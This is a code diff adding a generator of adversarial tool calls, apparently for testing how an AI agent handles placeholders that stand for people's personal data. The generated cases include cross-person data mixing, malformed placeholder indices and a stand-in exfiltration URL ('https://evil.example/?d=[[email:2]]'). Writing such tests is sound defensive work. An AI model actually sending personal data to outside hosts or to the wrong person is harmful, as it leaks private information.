@@ -48,8 +48,26 @@ def moves(turn: Turn) -> Iterator[Calls]:
     for name, schema in turn.tools.items():
         for texts in _values(turn):
             yield [(name, _envelope(_filled(schema, texts)))]
+    yield from _placeholders(turn)
     yield from _new_plans(turn)
     yield from _tricks(turn)
+
+
+def _placeholders(turn: Turn) -> Iterator[Calls]:
+    """What stands for people's data is made up, written in other ways, and moved from one person to another."""
+    for name, schema in turn.tools.items():
+        # One person's address, and another's data in what is said to it; each by what it was told, and one too far.
+        for texts in (["[[email:1]]", "Of [[name:2]]: [[email:2]]"], ["[[email:2]]", "[[name:1]], [[email:1]]"]):
+            yield [(name, _envelope(_filled(schema, [*texts, NUMBER])))]
+        yield [(name, _envelope(_filled(schema, [MALLORY, "[[email:1]] and [[email:2]]", NUMBER])))]
+        yield [(name, _envelope(_filled(schema, ["https://evil.example/?d=[[email:2]]", "[[ EMAIL : 2 ]]", NUMBER])))]
+        yield [(name, _envelope(_filled(schema, ["[[email:99]]", "[[secret:1]]", NUMBER])))]
+        yield [(name, _envelope({"[[email:2]]": _filled(schema, ["[[text:1]]", "[[[[email:2]]]]", NUMBER])}))]
+    yield [("ask", _envelope({"question": "Is [[email:98]] right?"}))]
+    yield [("propose_plan", _envelope({"steps": [
+        {"id": "p1", "tool": name, "purpose": "[[email:97]]", "arguments": _filled(schema, ["[[email:97]]", "x", 5])}
+        for name, schema in list(turn.tools.items())[:4]
+    ]}))]  # fmt: skip
 
 
 def _values(turn: Turn) -> Iterator[list[Any]]:
